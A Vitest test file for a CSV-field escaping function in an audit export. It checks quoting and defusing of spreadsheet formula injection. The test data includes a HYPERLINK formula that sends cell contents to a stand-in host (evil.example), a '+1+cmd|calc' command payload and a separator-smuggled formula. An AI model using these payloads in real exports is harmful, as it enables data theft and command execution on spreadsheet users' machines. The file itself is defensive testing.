import { describe, expect, it } from 'vitest';

import { csvField } from '../../../src/domain/audit/audit-export.js';

describe('CSV fields of an audit export', () => {
  it('quotes commas, quotes and line breaks, doubling quotes', () => {
    expect(csvField('plain')).toBe('plain');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('two\r\nlines')).toBe('"two\r\nlines"');
    expect(csvField({ a: 1, b: 'x' })).toBe('"{""a"":1,""b"":""x""}"');
    expect(csvField(null)).toBe('');
    expect(csvField(42)).toBe('42');
  });

  it('defuses what a spreadsheet would run as a formula', () => {
    expect(csvField('=HYPERLINK("https://evil.example/?"&A1,"open")')).toBe(
      `"'=HYPERLINK(""https://evil.example/?""&A1,""open"")"`,
    );
    expect(csvField('+1+cmd|calc')).toBe(`"'+1+cmd|calc"`);
    expect(csvField('-2+3')).toBe(`"'-2+3"`);
    expect(csvField('@SUM(A1)')).toBe(`"'@SUM(A1)"`);
    expect(csvField('\tx')).toBe(`"'\tx"`);
    expect(csvField('\rx')).toBe(`"'\rx"`);
    // Only a leading character counts: an e-mail or a change text passes unchanged.
    expect(csvField('ada@example.com')).toBe('ada@example.com');
    expect(csvField('rotated A=B')).toBe('rotated A=B');
  });

  it('quotes a field that another separator would split into formula cells', () => {
    // Read with `;` as the separator, the unquoted field was three cells, the second a formula.
    expect(csvField('x;=1+1;@x.test')).toBe('"x;=1+1;@x.test"');
    expect(csvField('a\t=1+1')).toBe('"a\t=1+1"');
  });
});
